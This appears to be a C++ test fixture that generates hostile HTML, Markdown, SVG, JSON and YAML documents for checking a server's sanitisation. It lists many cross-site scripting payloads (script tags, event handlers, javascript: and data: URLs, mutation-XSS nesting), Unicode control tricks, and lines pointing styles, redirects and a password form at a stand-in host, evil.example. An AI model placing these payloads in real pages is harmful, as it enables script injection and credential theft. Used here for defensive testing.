#include "tests/serve/hostile.h"

namespace exhibit::test {

std::vector<SourceFile> hostile_documents() {
  const char* html[] = {
      "<p>Trained on GPUs.</p><script>alert(1)</script>",
      "<p>Weights</p><img src=x onerror=alert(1)>",
      "<svg onload=alert(1)><text>alert</text></svg><p>text</p>",
      "<svg><script>alert(1)</script></svg><p>text</p>",
      "<p><a href=\"javascript:alert(1)\">weights</a> alert</p>",
      "<p><a href=\"data:text/html,<script>alert(1)</script>\">data</a></p>",
      "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe><p>alert</p>",
      "<object data=\"data:text/html,alert\"></object><embed src=javascript:alert(1)><p>x</p>",
      "<p style=\"background:url(javascript:alert(1))\">styled alert</p>",
      "<style>@import 'https://evil.example/x.css';</style><p>styled</p>",
      "<base href=\"https://evil.example/\"><p>based</p>",
      "<meta http-equiv=refresh content=\"0;url=https://evil.example\"><p>refreshed</p>",
      "<form action=\"https://evil.example\"><input name=password><button>alert</button></form>",
      "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
      "onerror=alert(1)&gt;\"><p>m",
      "<p>&lt;script&gt;alert(1)&lt;/script&gt; escaped twice: &amp;lt;img onerror=alert(1)&amp;gt;</p>",
      "<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x "
      "onerror=alert(1)>\">",
  };
  const char* markdown[] = {
      "# Card\n\n<script>alert(1)</script>\n\nTrained on GPUs.\n",
      "# Card\n\n[weights](javascript:alert(1)) alert\n",
      "# Card\n\n![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)\n\nalert\n",
      "# <img src=x onerror=alert(1)>\n\nA heading that attacks.\n",
      "| a | <svg onload=alert(1)> |\n|---|---|\n| \"><script>alert(1)</script> | b |\n",
      "```html\n<script>alert(1)</script>\n```\n",
      "<details open ontoggle=alert(1)>\n\nhidden alert\n\n</details>\n",
      "A quote: \"</q><script>alert(1)</script>\" and '</textarea><img src=x onerror=alert(1)>'.\n",
      "Text \u202Etxet denrut\u202C, \u2066isolated\u2069, zero\u200Bwidth, \uFEFFmark, \u2028 line \u2029 "
      "paragraph alert.\n",
      "Null and controls: \x01\x02\x1b[31mred\x1b[0m \x7f alert.\n",
      "Combining: Z\u0351\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349 and "
      "\U0001F468\u200D\U0001F469 alert.\n",
  };
  std::vector<SourceFile> files;
  int number = 0;
  const auto url = [&number](const char* suffix) {
    return "https://evil.example/" + std::to_string(number++) + suffix;
  };
  for (const char* bytes : html)
    files.push_back({url(".html"), "text/html", std::string("<html><body>") + bytes});
  for (const char* bytes : markdown) files.push_back({url(".md"), "text/markdown", bytes});
  files.push_back(
      {url(".svg"), "image/svg+xml",
       "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(1)</script></svg>"});
  files.push_back({url(".json"), "application/json",
                   R"({"</script><script>alert(1)</script>":"<img onerror=alert(1)>"})"});
  files.push_back({url(".txt"), "text/plain", "<!DOCTYPE html><script>alert(1)</script> as text\n"});
  files.push_back({url(".yaml"), "application/yaml",
                   "license: \"<script>alert(1)</script>\"\nname: 'javascript:alert(1)'\n"});
  files.push_back({url(".txt"), "text/plain", std::string("\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0", 18)});
  files.push_back({"javascript:alert(document.domain)//" + url(".md"), "text/markdown",
                   "An address that attacks: alert.\n"});
  return files;
}

}  // namespace exhibit::test
